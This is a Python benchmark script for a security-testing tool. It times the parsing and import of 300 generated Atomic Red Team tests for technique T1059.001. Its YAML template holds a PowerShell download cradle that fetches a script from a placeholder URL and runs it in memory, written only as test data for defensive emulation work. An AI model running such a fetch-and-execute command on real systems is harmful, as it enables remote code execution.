"""Benchmark: importing 300 Atomic Red Team tests, beside parsing them alone.

    .venv/bin/python bench/library_import.py [--atomics 300] [--repeat 3] [--bundle PATH]

One generated technique file (T1059.001, like the real `atomics/T1059.001/T1059.001.yaml`) holds
`--atomics` tests, each with two input arguments, a dependency, a command and a cleanup. Phases:

- yaml floor: `yaml.load` of the document with libyaml (nothing can import faster);
- parse: `load_document()`, i.e. YAML, the Atomic shape, and every draft through the create
  schema (what the route does before it touches the database);
- first import: parse, then `import_templates()` into an empty library, committed;
- re-import: the same document again (matched by GUID, every test skipped, nothing written).

In-process against database `violet_bench_library` (embedded unless BENCH_DATABASE_URL is set),
migrated, with the real ATT&CK catalogue synced first (untimed). Each phase runs `--repeat`
times; the fastest run is reported.
"""

from __future__ import annotations

import argparse
import os
import sys
import time
import uuid
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[1]
DEFAULT_BUNDLE = REPO_ROOT.parent / "shared" / "data" / "enterprise-attack-v18.1.json.gz"
DATABASE = "violet_bench_library"

ATOMIC_TEST = """\
- name: PowerShell download cradle {index}
  auto_generated_guid: {guid}
  description: |
    Downloads a script and runs it in memory (variant {index}). Upon execution, the script's
    output is displayed.
  supported_platforms:
  - windows
  input_arguments:
    url:
      description: Where the script is downloaded from
      type: url
      default: https://example.test/payload-{index}.ps1
    timeout_seconds:
      description: How long to wait
      type: integer
      default: {index}
  dependency_executor_name: powershell
  dependencies:
  - description: |
      The payload directory must exist
    prereq_command: |
      if (Test-Path $env:TEMP\\payloads) {{exit 0}} else {{exit 1}}
    get_prereq_command: |
      New-Item -Type Directory $env:TEMP\\payloads -Force | Out-Null
  executor:
    command: |
      IEX (New-Object Net.WebClient).DownloadString('#{{url}}')
      Start-Sleep #{{timeout_seconds}}
    cleanup_command: |
      Remove-Item $env:TEMP\\payloads -Recurse -ErrorAction Ignore
    name: powershell
    elevation_required: {elevated}
"""


def atomic_document(count: int) -> str:
    head = "attack_technique: T1059.001\ndisplay_name: 'Command and Scripting Interpreter'\n"
    tests = "".join(
        ATOMIC_TEST.format(
            index=index,
            guid=uuid.uuid5(uuid.NAMESPACE_URL, f"violet-bench/{index}"),
            elevated=str(index % 2 == 0).lower(),
        )
        for index in range(count)
    )
    return head + "atomic_tests:\n" + tests


def prepare(bundle: Path):
    """A migrated database with the default workspace and the real catalogue; the app."""
    from flask_migrate import upgrade

    from violet import create_app
    from violet.extensions import db
    from violet.mitre.sync.service import SyncSettings, file_source, sync_catalogue
    from violet.workspaces.service import ensure_default_workspace

    url = os.environ.get("BENCH_DATABASE_URL")
    if not url:
        from violet.config import data_dir
        from violet.core import embedded_db

        url = embedded_db.database_url(data_dir() / "postgres", DATABASE, recreate=True)
    app = create_app({"SQLALCHEMY_DATABASE_URI": url, "LOG_LEVEL": "WARNING"})
    with app.app_context():
        upgrade()
        workspace = ensure_default_workspace()
        settings = SyncSettings.from_config(app.config)
        sync_catalogue(
            file_source(bundle, settings.policy.max_bytes),
            expected_sha256=None,
            allow_unverified=True,
            started_by=None,
            settings=settings,
        )
        db.session.commit()
        return app, workspace.id


def timed(function) -> tuple[float, object]:
    started = time.perf_counter()
    result = function()
    return time.perf_counter() - started, result


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--atomics", type=int, default=300)
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--bundle", type=Path, default=DEFAULT_BUNDLE)
    arguments = parser.parse_args()
    if not arguments.bundle.exists():
        print(f"SKIPPED: the ATT&CK bundle is absent ({arguments.bundle}).")
        return 0

    import yaml
    from sqlalchemy import delete

    from violet.core.tenancy import acting_in
    from violet.extensions import db
    from violet.library.formats.loader import load_document
    from violet.library.models import TestTemplate
    from violet.library.service.transfer import import_templates

    document = atomic_document(arguments.atomics)
    app, workspace_id = prepare(arguments.bundle)

    def import_once():
        report = import_templates(workspace_id, load_document("atomic-red-team", document))
        db.session.commit()
        return report

    runs: dict[str, list[float]] = {"yaml floor": [], "parse": [], "first import": []}
    runs["re-import"] = []
    reports = {}
    with app.app_context(), acting_in(workspace_id):
        for _ in range(arguments.repeat):
            runs["yaml floor"].append(timed(lambda: yaml.load(document, yaml.CSafeLoader))[0])
            runs["parse"].append(timed(lambda: load_document("atomic-red-team", document))[0])
            db.session.execute(delete(TestTemplate))
            db.session.commit()
            elapsed, reports["first import"] = timed(import_once)
            runs["first import"].append(elapsed)
            elapsed, reports["re-import"] = timed(import_once)
            runs["re-import"].append(elapsed)

    size_kb = len(document.encode()) / 1024
    print(f"{arguments.atomics} atomics ({size_kb:.0f} KB YAML), best of {arguments.repeat} runs")
    parse = min(runs["parse"])
    header = f"{'phase':<14} {'wall ms':>9} {'× parse':>8} {'per atomic ms':>14}"
    print()
    print(header)
    print("-" * len(header))
    for phase, times in runs.items():
        best = min(times)
        per_atomic = best * 1000 / arguments.atomics
        print(f"{phase:<14} {best * 1000:>9.1f} {best / parse:>8.2f} {per_atomic:>14.3f}")
    print()
    for phase, report in reports.items():
        print(f"  {phase}: {report}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
